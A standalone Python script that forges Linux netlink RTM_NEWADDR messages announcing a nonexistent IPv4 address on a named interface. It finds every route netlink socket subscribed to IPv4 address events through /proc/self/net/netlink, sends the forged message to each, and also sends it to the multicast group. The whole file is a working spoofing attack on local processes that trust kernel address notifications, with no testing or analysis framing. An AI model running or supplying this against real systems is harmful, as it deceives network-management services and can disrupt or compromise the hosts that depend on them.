"""Tells whoever listens for IPv4 addresses of one that is not there: to each socket, and to the group."""

import socket
import struct
import sys

RTM_NEWADDR, IFA_LOCAL, IPV4_ADDRESSES = 20, 2, 1 << 4


def message(address: str, index: int) -> bytes:
    payload = struct.pack("=BBBBI", socket.AF_INET, 32, 0, 0, index)
    payload += struct.pack("=HH", 8, IFA_LOCAL) + socket.inet_aton(address)
    return struct.pack("=IHHII", 16 + len(payload), RTM_NEWADDR, 0, 0, 0) + payload


forged = message(sys.argv[1], socket.if_nametoindex(sys.argv[2]))
sender = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
sender.bind((0, 0))
told = 0
with open("/proc/self/net/netlink", encoding="ascii") as sockets:
    for line in list(sockets)[1:]:
        _, protocol, port, groups = line.split()[:4]
        if protocol == "0" and port != "0" and int(groups, 16) & IPV4_ADDRESSES:
            sender.sendto(forged, (int(port), 0))
            told += 1
sender.sendto(forged, (0, IPV4_ADDRESSES))
print(told)
